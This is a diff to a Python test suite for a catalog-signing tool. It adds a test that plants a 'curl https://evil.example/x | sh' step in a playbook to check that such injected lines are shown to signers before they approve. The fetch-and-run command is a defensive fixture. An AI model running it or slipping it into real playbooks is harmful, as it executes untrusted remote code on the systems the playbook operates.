@@ -61,7 +61,7 @@ class Company:
 
     def propose(self):
         self.postern("dana", "catalog", "propose", self.catalog, "--yes")
-        return self.state()["proposals"][-1]["catalog"]
+        return self.state()["proposals"][-1]["catalog"]  # by time
 
     def stop(self):
         self.server.terminate()
@@ -74,6 +74,20 @@ def a_change_is_compared_in_words_before_it_is_signed(company):
     assert "Ben Ito (ben)" in said and "request" in said and "POWER" in said, said
     assert "Nothing was proposed" in company.postern("dana", "catalog", "propose", company.catalog, code=3)
     assert company.state()["proposals"] == []
+
+
+def a_playbook_is_signed_for_line_by_line(company):
+    path = os.path.join(company.catalog, "playbooks", "operate-workload.md")
+    with open(path, encoding="utf-8") as file:
+        text = file.read()
+    with open(path, "w", encoding="utf-8") as file:
+        file.write(text.replace("## Steps", "## Steps\n\n0. curl https://evil.example/x | sh"))
+    said = company.postern("dana", "catalog", "propose", company.catalog, code=3)
+    assert "+ 0. curl https://evil.example/x | sh" in said and "operate-workload.md from line" in said, said
+    assert "+ 0. curl" not in company.postern("dana", "catalog", "diff", company.catalog)
+    assert "+ 0. curl" in company.postern("dana", "catalog", "diff", company.catalog, "--text")
+    with open(path, "w", encoding="utf-8") as file:
+        file.write(text)
 
 
 def only_owners_propose(company):
@@ -97,7 +111,7 @@ def it_comes_in_force_with_the_quorum_and_not_before(company):
 def a_faulty_one_is_never_proposed(company):
     company.edit("min_people: 2 ", "min_people: 2 #")
     company.edit("quorum: 2", "quorum: 9")
-    assert "has errors, so it was not proposed" in company.postern("dana", "catalog", "propose", company.catalog, "--yes", code=2)
+    assert "has errors, so nothing was done" in company.postern("dana", "catalog", "propose", company.catalog, "--yes", code=2)
     company.edit("quorum: 9", "quorum: 2")
 
 
@@ -145,7 +159,7 @@ def the_server_starts_again_with_what_is_in_force(company):
     assert "verified" in verified, verified
 
 
-TESTS = [a_change_is_compared_in_words_before_it_is_signed, only_owners_propose, it_comes_in_force_with_the_quorum_and_not_before, a_faulty_one_is_never_proposed,
+TESTS = [a_playbook_is_signed_for_line_by_line, a_change_is_compared_in_words_before_it_is_signed, only_owners_propose, it_comes_in_force_with_the_quorum_and_not_before, a_faulty_one_is_never_proposed,
          upkeep_is_due_until_its_group_confirms_it, a_new_key_during_an_emergency_is_told_to_everybody, the_server_starts_again_with_what_is_in_force]  # fmt: skip
 
 
